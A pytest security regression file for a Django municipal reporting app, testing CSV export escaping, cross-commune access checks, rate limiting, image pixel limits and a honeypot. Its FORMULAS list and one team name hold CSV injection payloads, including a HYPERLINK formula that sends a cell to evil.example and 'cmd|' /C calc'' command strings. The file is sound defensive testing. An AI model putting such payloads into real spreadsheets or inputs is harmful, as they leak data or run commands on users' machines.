"""Issue #16 probes against Signalements, replayed: CSV injection, another commune's team, rate limit under
concurrency, honeypot, photos with too many pixels, huge ids, and the configuration services' capability."""

import csv
import io
import sqlite3
import subprocess
import sys
import textwrap

import pytest
from django.core.exceptions import PermissionDenied
from django.db import connection
from PIL import Image

from beffroi.reports import services
from beffroi.reports.models import Category, ReplyTemplate, Report
from tests.factories import TeamFactory
from tests.reports.conftest import file_report
from tests.reports.test_public import post_report

pytestmark = pytest.mark.django_db
G = "/valbourg/signalements/gestion"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1;"clic")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+33 6 00",
    "-2+3",
]


def export_rows(client):
    content = client.get(f"{G}/export.csv?service=tous&statut=all").content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(content), delimiter=";"))


def test_no_formula_in_any_cell_of_the_agents_export(client, setup_reports, valbourg, agent_valbourg):
    team = TeamFactory(commune=valbourg, name="=cmd|' /C calc'!A0", slug="piege")
    services.category_create(commune=valbourg, code="piege", name="@SUM(A1)", team=team, actor=None)
    category = Category.objects.get(commune=valbourg, code="piege")
    for text in FORMULAS:
        file_report(valbourg, category, address_string=text, description=text)
    client.force_login(agent_valbourg)
    rows = export_rows(client)
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    addresses = {row["Adresse ou repère"] for row in rows}
    assert "'" + FORMULAS[0] in addresses and "'-2+3" in addresses  # shown as typed, never run
    # numbers stay numbers (decimal comma): a spreadsheet can still sum them
    assert rows[0]["Latitude"] == "47,318000" and rows[0]["Soutiens"] == "0"


def test_choosing_another_communes_team_is_refused_and_keeps_the_assignment(
    client, setup_reports, valbourg, hautmesnil, agent_valbourg
):
    report = file_report(valbourg, setup_reports["light"])
    assert report.team == setup_reports["team"]
    foreign = TeamFactory(commune=hautmesnil, name="Équipe d'ailleurs", slug="ailleurs")
    client.force_login(agent_valbourg)
    response = client.post(f"{G}/{report.pk}/affecter/", {"team": foreign.pk, "assignee": ""}, follow=True)
    assert "Ce service n&#x27;existe pas dans la commune" in response.content.decode()
    report.refresh_from_db()
    assert report.team == setup_reports["team"]  # not silently cleared
    assert not report.events.filter(kind="assign").exists()


def test_the_service_refuses_another_communes_team_in_french(
    setup_reports, valbourg, hautmesnil, agent_valbourg
):
    report = file_report(valbourg, setup_reports["light"])
    foreign = TeamFactory(commune=hautmesnil, name="Ailleurs", slug="ailleurs2")
    with pytest.raises(services.ReportInputError) as refused:
        services.report_assign(report=report, actor=agent_valbourg, team=foreign)
    assert refused.value.message == "Ce service n'existe pas dans la commune."


def test_huge_ids_are_unknown_not_server_errors(client, setup_reports, valbourg, agent_valbourg):
    client.raise_request_exception = False
    report = file_report(valbourg, setup_reports["light"])
    huge = "9" * 30
    assert client.get(f"/valbourg/signalements/{huge}/").status_code == 404
    client.force_login(agent_valbourg)
    assert client.get(f"{G}/{huge}/").status_code == 404
    assert client.get(f"{G}/?etat={huge}").status_code == 200
    for action, data in (
        ("affecter", {"team": huge, "assignee": huge}),
        ("etat", {"state": huge}),
        ("photo", {"photo": huge}),
        ("fusionner", {"into": huge}),
        ("repondre", {"template": huge, "visibility": "note", "body": ""}),
    ):
        response = client.post(f"{G}/{report.pk}/{action}/", data)
        # 400: the merge form comes back with the number typed and the reason
        assert response.status_code in (302, 400, 404), (action, response.status_code)


def test_category_and_template_creation_need_an_administrator(
    setup_reports, valbourg, agent_valbourg, admin_valbourg
):
    with pytest.raises(PermissionDenied) as refused:
        services.category_create(commune=valbourg, code="x", name="X", actor=agent_valbourg)
    assert "administrateur" in str(refused.value)
    with pytest.raises(PermissionDenied):
        services.reply_template_create(commune=valbourg, title="T", body="B", actor=agent_valbourg)
    assert (
        not Category.objects.filter(code="x").exists()
        and not ReplyTemplate.objects.filter(title="T").exists()
    )
    services.category_create(commune=valbourg, code="x", name="X", actor=admin_valbourg)
    services.reply_template_create(commune=valbourg, title="T", body="B", actor=admin_valbourg)


def test_another_communes_state_is_a_404_not_an_english_message(
    setup_reports, valbourg, hautmesnil, agent_valbourg
):
    from django.http import Http404

    from beffroi.reports.models import State

    report = file_report(valbourg, setup_reports["light"])
    foreign = State.objects.filter(commune=hautmesnil).first()
    with pytest.raises(Http404) as refused:
        services.report_change_state(report=report, actor=agent_valbourg, state=foreign)
    assert str(refused.value) == "Cet élément n'existe pas dans la commune."


def test_a_light_photo_with_too_many_pixels_is_refused_for_its_pixels(client, setup_reports):
    buffer = io.BytesIO()
    Image.new("1", (8000, 5200)).save(buffer, "PNG")  # 41.6 megapixels of one colour: a few kilobytes
    assert len(buffer.getvalue()) < 200_000
    buffer.seek(0)
    buffer.name = "immense.png"
    response = post_report(client, photos=buffer)
    page = response.content.decode()
    assert response.status_code == 400
    assert "trop de pixels" in page and "8 Mo" not in page.split("Jusqu")[0]
    assert not Report.objects.exists()


def test_honeypot_keeps_the_form_and_says_why(client, setup_reports):
    response = post_report(client, website="http://spam.example", description="Lampadaire éteint")
    page = response.content.decode()
    assert response.status_code == 400 and "pris pour celui d" in page and "Lampadaire éteint" in page
    assert not Report.objects.exists()


def test_forwarded_for_is_ignored_unless_behind_a_proxy(client, setup_reports, settings):
    settings.BEFFROI_REPORTS_RATE_LIMIT = 1
    assert post_report(client).status_code == 302
    # Without a proxy, a forged header does not make a new sender
    response = client.post(
        "/valbourg/signalements/signaler/nid-de-poule/",
        {"latitude": "47.318", "longitude": "4.832", "description": "Autre", "q_danger": "oui"},
        HTTP_X_FORWARDED_FOR="203.0.113.9",
    )
    assert response.status_code == 429
    # Behind a proxy, the address the proxy saw (the header's last entry) is the sender
    settings.BEFFROI_BEHIND_PROXY = True
    response = client.post(
        "/valbourg/signalements/signaler/nid-de-poule/",
        {"latitude": "47.318", "longitude": "4.832", "description": "Autre", "q_danger": "oui"},
        HTTP_X_FORWARDED_FOR="127.0.0.1, 203.0.113.9",
    )
    assert response.status_code == 302
    assert Report.objects.count() == 2


CONCURRENT_POSTS = textwrap.dedent(
    """
    import os, sys, threading
    os.environ["DJANGO_SETTINGS_MODULE"] = "beffroi.settings"
    import django
    django.setup()
    from django.conf import settings
    from django.db import connection
    from django.test import Client
    settings.ALLOWED_HOSTS = ["testserver"]
    settings.BEFFROI_REPORTS_RATE_LIMIT = 10
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
    settings.STORAGES = {**settings.STORAGES,
                         "staticfiles": {"BACKEND": "django.contrib.staticfiles.storage.StaticFilesStorage"}}
    barrier = threading.Barrier(int(sys.argv[1]))
    statuses = []

    def post():
        client = Client()
        barrier.wait()
        try:
            response = client.post("/valbourg/signalements/signaler/eclairage/",
                                   {"latitude": "47.318", "longitude": "4.832", "description": "Panne"})
            statuses.append(str(response.status_code))
        except Exception as error:  # said on the result line, not lost in a thread's traceback
            statuses.append(f"{type(error).__name__}: {error}")
        finally:
            connection.close()

    threads = [threading.Thread(target=post) for _ in range(int(sys.argv[1]))]
    for t in threads: t.start()
    for t in threads: t.join()
    print(",".join(sorted(statuses)))
    """
)


@pytest.mark.django_db(transaction=True)
def test_concurrent_anonymous_posts_never_pass_the_limit(setup_reports, tmp_path):
    """35 posts at once from one address: exactly 10 reports, the others 429 (it used to let 11 through)."""
    if connection.vendor != "sqlite":
        pytest.skip("the copy of the test database below is SQLite's VACUUM INTO")
    database = tmp_path / "concurrent.sqlite3"
    connection.ensure_connection()
    connection.connection.execute("VACUUM INTO ?", (str(database),))
    env = {
        "DATABASE_URL": f"sqlite:///{database}",
        "BEFFROI_DATA_DIR": str(tmp_path / "data"),
        "SECRET_KEY": "concurrency-test",
        "PATH": "/usr/bin:/bin",
    }
    run = subprocess.run(
        [sys.executable, "-c", CONCURRENT_POSTS, "35"], env=env, capture_output=True, text=True, timeout=300
    )
    assert run.returncode == 0, run.stderr[-3000:]
    lines = run.stdout.strip().splitlines()
    assert lines, run.stderr[-3000:]
    statuses = lines[-1].split(",")
    assert statuses.count("302") == 10 and statuses.count("429") == 25, (statuses, run.stderr[-3000:])
    with sqlite3.connect(database) as db:
        assert db.execute("SELECT count(*) FROM reports_report").fetchone()[0] == 10
